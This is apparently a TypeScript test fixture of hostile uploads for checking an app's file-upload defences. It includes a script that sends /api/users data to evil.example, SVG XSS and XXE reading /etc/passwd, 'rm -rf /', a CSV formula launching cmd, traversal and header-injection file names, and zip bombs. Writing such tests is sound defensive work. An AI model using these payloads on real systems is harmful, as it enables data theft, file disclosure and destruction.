import { deflateRawSync } from 'node:zlib';
import { slideParts, wordParts, zipOf } from '../../src/platform/files/zip.fixture.ts';

/** An attacker's file: what it tries, and the address to which it is uploaded. */
export interface HostileFile {
  readonly tries: string;
  readonly path: string;
  readonly file: () => File;
}

const presentation = '/api/upload/presentation';
const plain = '/api/upload';
const idea = '/api/upload/idea';
const energy = '/api/upload?purpose=energy';
const photo = '/api/upload/profile-image';
const cv = '/api/upload/cv-english';

const script = '<script>fetch("/api/users").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script>';
const page = `<!doctype html><html><body>${script}</body></html>`;
const pdf = '%PDF-1.7\n1 0 obj\n<<>>\nendobj\n';
const hex = (text: string) => Uint8Array.fromHex(text);
const png = hex('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489');
const jpg = hex('ffd8ffe000104a46494600010100000100010000ffd9');
const gif = 'GIF89a\x01\0\x01\0\0\0\0;';
const program = hex('4d5a90000300000004000000ffff0000');
const oldOffice = hex('d0cf11e0a1b11ae1');
const svg = (content: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${content}</svg>`;

type Bytes = string | Uint8Array | Blob;
const hostile = (tries: string, path: string, name: string, bytes: Bytes | (() => Bytes[]), type?: string): HostileFile => ({
  tries,
  path,
  file: () => new File((typeof bytes === 'function' ? bytes() : [bytes]) as BlobPart[], name, { type }),
});

/** A zip whose entries all claim to be deflated, and are bombs: 32 MB of zeros each in 32 kB. */
const bomb = (parts: Record<string, string>, names: readonly string[]) => (): Blob[] => {
  const packed = deflateRawSync(new Uint8Array(32 * 1024 * 1024));
  const zip = zipOf({ ...parts, ...Object.fromEntries(names.map((name) => [name, packed])) });
  return [zip];
};
/** A bomb as the part that determines the type. */
const bombOfTypes = (): Blob[] => [
  zipOf({ '[Content_Types].xml': deflateRawSync(new Uint8Array(64 * 1024 * 1024)), 'ppt/a': 'x' }),
];
const manyEntries = (): Blob[] => [
  zipOf({ ...slideParts, ...Object.fromEntries(Array.from({ length: 20_000 }, (_, n) => [`ppt/slides/${n}.xml`, ''])) }),
];
/** A zip whose end record is wrong about its central directory: at 12 its size, at 16 its offset. */
const lyingZip = async (offset: number, value: number) => {
  const bytes = await zipOf({ ...slideParts, 'docProps/thumbnail.jpeg': jpg }).bytes();
  new DataView(bytes.buffer).setUint32(bytes.length - 22 + offset, value, true);
  return bytes;
};
const sizeLie = await lyingZip(12, 0xffffffff);
const offsetLie = await lyingZip(16, 0x7fffffff);

const scriptsInDrawings = [
  ['a script element', svg(script)],
  ['an event handler', svg('<rect/>', 'onload="alert(1)"')],
  ['a foreign object', svg(`<foreignObject>${page}</foreignObject>`)],
  ['a link to javascript:', svg('<a href="javascript:alert(1)"><text>x</text></a>')],
  ['an external entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`],
  ['a billion laughs', `<!DOCTYPE s [<!ENTITY a "${'x'.repeat(5000)}"><!ENTITY b "${'&a;'.repeat(5000)}">]>${svg('&b;')}`],
  ['an external style sheet', `<?xml-stylesheet href="//evil.example/x.css"?>${svg('')}`],
  ['a use of another site', svg('<use href="//evil.example/x.svg#a"/>')],
] as const;

const falseNames = [
  ['a page', page],
  ['a drawing', svg(script)],
  ['a program', program],
  ['a shell script', '#!/bin/sh\nrm -rf /\n'],
  ['a zip', zipOf({ 'a.txt': 'a' })],
] as const;

const oddNames = [
  '../../../../etc/cron.d/owned.pdf',
  '..\\..\\windows\\system32\\owned.pdf',
  '/etc/passwd.pdf',
  'C:\\boot.pdf',
  '....//....//owned.pdf',
  '.htaccess.pdf',
  'a\u0000.html.pdf',
  'line\r\nSet-Cookie: a=b.pdf',
  'quote"; filename="evil.html.pdf',
  '\u202Efdp.exe.pdf',
  `${'long'.repeat(500)}.pdf`,
  '<img src=x onerror=alert(1)>.pdf',
  '%2e%2e%2fowned.pdf',
  'CON.pdf',
  '💥\u0024{7*7}{{7*7}}.pdf',
] as const;

/** At least sixty; each is either refused, or served so that no browser runs it. */
export const hostileFiles: readonly HostileFile[] = [
  ...scriptsInDrawings.map(([what, bytes]) =>
    hostile(`a drawing with ${what}`, presentation, 'logo.svg', bytes, 'image/svg+xml'),
  ),
  ...falseNames.flatMap(([what, bytes]) => [
    hostile(`${what} named .pdf`, presentation, 'plan.pdf', bytes),
    hostile(`${what} named .png`, photo, 'me.png', bytes, 'image/png'),
    hostile(`${what} named .docx`, cv, 'cv.docx', bytes),
    hostile(`${what} named .pptx`, idea, 'slides.pptx', bytes),
  ]),
  ...oddNames.map((name) => hostile(`the name ${JSON.stringify(name).slice(0, 60)}`, presentation, name, pdf)),
  hostile('a page declared as a PDF', plain, 'page.html', page, 'application/pdf'),
  hostile('a PDF declared as a page', plain, 'plan.pdf', pdf, 'text/html'),
  hostile('a text declared as a page', plain, 'notes.txt', page, 'text/html'),
  hostile('a page as Markdown', plain, 'notes.md', page, 'text/html'),
  hostile('a page as CSV', energy, 'data.csv', page),
  hostile('a formula as CSV', energy, 'data.csv', '=cmd|" /C calc"!A0\n'),
  hostile('a script', plain, 'run.js', 'alert(1)', 'text/javascript'),
  hostile('a page of XML', plain, 'page.xhtml', page, 'application/xhtml+xml'),
  hostile('a page behind two extensions', presentation, 'slides.pdf.html', page),
  hostile('a page with a hidden extension', presentation, 'slides.html\u0000.pdf', page),
  hostile('a PDF that is a page as well', presentation, 'both.pdf', `${pdf}${page}`),
  hostile('a page before a PDF', presentation, 'both.pdf', `${page}${pdf}`),
  hostile('a GIF that is a script as well', photo, 'both.gif', `${gif}/*${script}*/=1;alert(1)`, 'image/gif'),
  hostile('a JPEG that is a page as well', presentation, 'both.jpg', () => [jpg, page]),
  hostile('a PNG that is a page as well', presentation, 'both.png', () => [png, page]),
  hostile('a picture that is a zip as well', presentation, 'both.png', () => [png, zipOf({ 'a.html': page })]),
  hostile('slides that are a page as well', presentation, 'both.pptx', () => [page, zipOf(slideParts)]),
  hostile('a Word file as slides', presentation, 'cv.pptx', zipOf(wordParts)),
  hostile('an old Office file cut after its first bytes', cv, 'cv.doc', oldOffice),
  hostile('a PDF of four bytes', presentation, 'a.pdf', '%PDF'),
  hostile('a bomb in a Word file', idea, 'bomb.docx', bomb(wordParts, ['word/media/image1.png'])),
  hostile('a bomb in slides', presentation, 'bomb.pptx', bomb(slideParts, ['ppt/media/image1.png'])),
  hostile('a bomb in the place of the preview', presentation, 'bomb.pptx', bomb(slideParts, ['docProps/thumbnail.jpeg'])),
  hostile('a bomb in the part that tells the type', presentation, 'bomb.pptx', bombOfTypes),
  hostile('slides of twenty thousand parts', presentation, 'many.pptx', manyEntries),
  hostile('a zip that lies about its size', presentation, 'lie.pptx', sizeLie),
  hostile('a zip that points beyond its end', presentation, 'lie.pptx', offsetLie),
  hostile('a zip with names that climb', presentation, 'climb.zip', zipOf({ '../../../etc/passwd': 'x', '/etc/shadow': 'x' })),
  hostile('a nested zip', presentation, 'nested.zip', zipOf({ 'a.zip': '\x50\x4b\x03\x04'.repeat(1000) })),
  hostile('an empty file', presentation, 'empty.pdf', ''),
  hostile('an empty picture', photo, 'empty.png', ''),
  hostile('one byte over the limit', idea, 'large.pdf', () => [pdf, new Uint8Array(10 * 1024 * 1024 - pdf.length + 1)]),
  hostile('no extension', presentation, 'slides', pdf),
  hostile('an extension alone', presentation, '.pdf', pdf),
];
